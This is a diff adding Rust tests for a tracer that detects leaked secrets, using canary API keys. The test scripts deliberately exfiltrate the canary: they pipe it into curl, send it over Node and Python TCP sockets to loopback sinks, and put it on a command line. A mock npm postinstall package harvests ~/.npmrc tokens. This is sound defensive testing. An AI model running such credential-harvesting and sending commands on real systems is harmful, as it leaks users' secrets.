@@ -2,7 +2,9 @@
 //! disk. The "evil" one's postinstall reads its environment, ~/.npmrc, ~/.aws/credentials and
 //! its parent's /proc/PID/environ, looks up a name through DNS and sends what it found over UDP
 //! (all on loopback); the benign one only writes a file. The trace must name the evil package
-//! and what it did, raise the canary alert, and say nothing of the benign one beyond its exec.
+//! and what it did, raise the canary alert, and say nothing of the benign one beyond its exec;
+//! the same under the real pnpm. Further tests put a canary on a command line, in a file, in a
+//! Node TCP stream and into curl through a pipe.
 
 mod common;
 use common::*;
@@ -194,4 +196,264 @@ fn trace_without_a_file_prints_the_summary() {
         r.stderr
     );
     assert!(!r.stderr.contains("__guard-exec"), "{}", r.stderr);
+}
+
+/// A loopback HTTP-ish server that swallows whatever comes and answers 200, until the test
+/// ends: the far end of the sends below.
+fn sink() -> u16 {
+    use std::io::{Read, Write};
+    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = l.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        for c in l.incoming() {
+            let Ok(mut c) = c else { continue };
+            std::thread::spawn(move || {
+                let _ = c.set_read_timeout(Some(std::time::Duration::from_millis(300)));
+                let mut buf = [0u8; 65536];
+                while matches!(c.read(&mut buf), Ok(n) if n > 0) {}
+                let _ = c.write_all(b"HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok");
+            });
+        }
+    });
+    port
+}
+
+/// `run --canary --trace=FILE -- sh -c SCRIPT` with a fresh ANTHROPIC_API_KEY (dropped, so the
+/// script gets a canary in its place); the run, the events, and the canary value (which the
+/// script leaves in `canary.txt`) for the checks that nothing printed it.
+fn traced_sh(script: &str) -> (Fixture, Run, Vec<serde_json::Value>, String) {
+    let mut fx = Fixture::new();
+    let key = fx.key("anthropic");
+    let trace = fx.dir.path().join("trace.jsonl");
+    let trace_arg = format!("--trace={}", trace.display());
+    let script = format!(
+        "cd {}; printf %s \"$ANTHROPIC_API_KEY\" > {}/canary.txt; {script}",
+        fx.project.display(),
+        fx.dir.path().display()
+    );
+    let r = fx.run(
+        &["run", "--canary", &trace_arg, "--", "sh", "-c", &script],
+        &[("ANTHROPIC_API_KEY", &key)],
+    );
+    assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
+    let text = std::fs::read_to_string(&trace).unwrap();
+    let canary = std::fs::read_to_string(fx.dir.path().join("canary.txt")).unwrap();
+    assert!(canary.len() > 20 && canary != key, "no canary given");
+    // Neither the real key nor the canary is printed or in the trace file.
+    r.assert_no_secret(&[key.clone(), canary.clone()]);
+    assert!(!text.contains(&key) && !text.contains(&canary), "{text}");
+    let events = text
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    (fx, r, events, canary)
+}
+
+fn secret_events<'a>(events: &'a [serde_json::Value], kind: &str) -> Vec<&'a serde_json::Value> {
+    events
+        .iter()
+        .filter(|e| e["event"] == kind && e["what"] == "the canary for ANTHROPIC_API_KEY")
+        .collect()
+}
+
+/// A canary handed to a program as an argument: world-readable in /proc/PID/cmdline, and
+/// recorded without the value (the exec's argv is masked).
+#[test]
+fn trace_reports_a_secret_on_a_command_line() {
+    let (_fx, r, events, _) = traced_sh("/bin/true --token=\"$ANTHROPIC_API_KEY\"");
+    let found = secret_events(&events, "secret-in-argv");
+    assert!(found.iter().any(|e| e["program"] == "true"), "{events:?}");
+    assert!(
+        events.iter().any(|e| e["event"] == "exec"
+            && e["argv"][1] == "--token=<keyfence:ANTHROPIC_API_KEY>"),
+        "{events:?}"
+    );
+    assert!(
+        r.stderr
+            .contains("passed the canary for ANTHROPIC_API_KEY on the command line of true"),
+        "{}",
+        r.stderr
+    );
+    assert!(r.stderr.contains("ALERT: sh"), "{}", r.stderr);
+}
+
+/// A canary written to a file that is still there when the command ends, attributed to the
+/// process that opened it: through relative paths, also after the shell changed directory
+/// (the tracer keeps each process's working directory until a chdir), and from Python.
+#[test]
+fn trace_reports_a_secret_written_to_a_file() {
+    let (fx, r, events, _) = traced_sh(
+        "echo harmless > clean.txt; mkdir sub; cd sub; echo \"$ANTHROPIC_API_KEY\" > leak.txt; \
+         python3 -c 'import os; open(\"py-leak.txt\", \"w\").write(os.environ[\"ANTHROPIC_API_KEY\"])'",
+    );
+    let found = secret_events(&events, "secret-written");
+    for name in ["leak.txt", "py-leak.txt"] {
+        let path = fx.project.join("sub").join(name).display().to_string();
+        assert!(
+            found.iter().any(|e| e["path"] == path),
+            "{name}: {events:?}"
+        );
+    }
+    assert!(
+        !events
+            .iter()
+            .any(|e| e["path"].as_str().is_some_and(|p| p.ends_with("clean.txt"))),
+        "{events:?}"
+    );
+    assert!(
+        r.stderr
+            .contains("wrote the canary for ANTHROPIC_API_KEY to"),
+        "{}",
+        r.stderr
+    );
+}
+
+/// Node sends TCP data with write/writev, not sendto, and Python's `socket.sendfile` sends a
+/// file's bytes with sendfile: the canary in either stream is seen.
+#[test]
+fn trace_reports_a_secret_written_to_a_tcp_socket() {
+    let (node_port, py_port) = (sink(), sink());
+    let (_fx, _r, events, _) = traced_sh(&format!(
+        "node -e 'const s = require(\"net\").connect({node_port}, \"127.0.0.1\", () => \
+         s.end(\"POST / HTTP/1.0\\r\\n\\r\\n\" + process.env.ANTHROPIC_API_KEY)); s.on(\"data\", () => {{}})'; \
+         python3 -c 'import socket; s = socket.create_connection((\"127.0.0.1\", {py_port})); \
+         s.sendfile(open(\"../canary.txt\", \"rb\"))'"
+    ));
+    let found = secret_events(&events, "secret-sent");
+    for port in [node_port, py_port] {
+        assert!(
+            found
+                .iter()
+                .any(|e| e["destination"] == format!("127.0.0.1:{port}")),
+            "{port}: {events:?}"
+        );
+    }
+}
+
+/// A canary piped into curl: seen as curl reads its standard input, whatever curl then does
+/// with it (here: sends it in plaintext; over TLS it would be opaque on the socket).
+#[test]
+fn trace_reports_a_secret_piped_to_a_network_tool() {
+    if Command::new("curl").arg("--version").output().is_err() {
+        panic!("curl is needed for this test (.ci/run installs it)");
+    }
+    let port = sink();
+    let (_fx, r, events, _) = traced_sh(&format!(
+        "printf %s \"$ANTHROPIC_API_KEY\" | curl -s --data-binary @- http://127.0.0.1:{port}/ >/dev/null"
+    ));
+    let found = secret_events(&events, "secret-sent");
+    assert!(
+        found
+            .iter()
+            .any(|e| e["destination"] == "the standard input of curl"),
+        "{events:?}"
+    );
+    assert!(
+        r.stderr.contains("to the standard input of curl"),
+        "{}",
+        r.stderr
+    );
+}
+
+/// The same harvesting package installed by the real pnpm (`target/test-tools`, pinned in
+/// .ci/run): pnpm runs a dependency's build scripts only when `allowBuilds` names it, and
+/// still gives each script `npm_package_name`/`npm_lifecycle_event`, so the report names the
+/// package under pnpm too.
+#[test]
+fn trace_names_the_package_that_harvests_under_pnpm() {
+    let pnpm =
+        Path::new(env!("CARGO_MANIFEST_DIR")).join("target/test-tools/node_modules/.bin/pnpm");
+    assert!(
+        pnpm.exists(),
+        "pnpm not found at {}: run `npm install --prefix target/test-tools pnpm@12.21.0` (.ci/run does)",
+        pnpm.display()
+    );
+    let mut fx = Fixture::new();
+    let key = fx.key("anthropic");
+    let npm_token = fx.key("npm");
+    fx.home_file(
+        ".npmrc",
+        &format!("//registry.npmjs.org/:_authToken={npm_token}\n"),
+    );
+    let pkgs = fx.dir.path().join("pkgs");
+    package(&pkgs, "evil-helper", "node install.js", EVIL);
+    package(
+        &pkgs,
+        "benign-helper",
+        "node install.js",
+        "require('fs').writeFileSync('built.txt', 'ok');",
+    );
+    fx.project_file(
+        "package.json",
+        r#"{"name": "app", "version": "1.0.0", "dependencies": {
+            "evil-helper": "file:../pkgs/evil-helper-1.0.0.tgz",
+            "benign-helper": "file:../pkgs/benign-helper-1.0.0.tgz"}}"#,
+    );
+    // pnpm's key for a tarball dependency is its name and specifier.
+    fx.project_file(
+        "pnpm-workspace.yaml",
+        "allowBuilds:\n  evil-helper@file:../pkgs/evil-helper-1.0.0.tgz: true\n  \
+         benign-helper@file:../pkgs/benign-helper-1.0.0.tgz: true\n",
+    );
+    let trace = fx.dir.path().join("trace.jsonl");
+    let trace_arg = format!("--trace={}", trace.display());
+    let store = fx.dir.path().join("pnpm-store");
+    let r = fx.run(
+        &[
+            "run",
+            "--profile",
+            "default",
+            "--canary",
+            &trace_arg,
+            "--",
+            pnpm.to_str().unwrap(),
+            "install",
+            "--store-dir",
+            store.to_str().unwrap(),
+        ],
+        &[("ANTHROPIC_API_KEY", &key)],
+    );
+    assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
+    let text = std::fs::read_to_string(&trace).unwrap();
+    let events: Vec<serde_json::Value> = text
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    let of = |group: &str, kind: &str| -> Vec<&serde_json::Value> {
+        events
+            .iter()
+            .filter(|e| e["event"] == kind && e["group"] == group)
+            .collect()
+    };
+    let evil_group = "evil-helper@1.0.0 postinstall";
+    assert!(
+        of(evil_group, "open")
+            .iter()
+            .any(|e| e["path"].as_str().is_some_and(|p| p.ends_with("/.npmrc"))),
+        "{events:?}"
+    );
+    assert!(
+        of(evil_group, "secret-sent")
+            .iter()
+            .any(|e| e["what"] == "the canary for ANTHROPIC_API_KEY"
+                && e["destination"] == "127.0.0.1:9"),
+        "{events:?}"
+    );
+    let benign_group = "benign-helper@1.0.0 postinstall";
+    assert!(!of(benign_group, "exec").is_empty(), "{events:?}");
+    for kind in ["open", "dns", "connect", "secret-sent", "secret-written"] {
+        assert!(of(benign_group, kind).is_empty(), "{kind}: {events:?}");
+    }
+    assert!(
+        r.stderr.contains("ALERT: evil-helper@1.0.0 postinstall"),
+        "{}",
+        r.stderr
+    );
+    r.assert_no_secret(&fx.planted);
+    for planted in &fx.planted {
+        assert!(
+            !text.contains(planted.as_str()),
+            "a planted value is in the trace"
+        );
+    }
 }
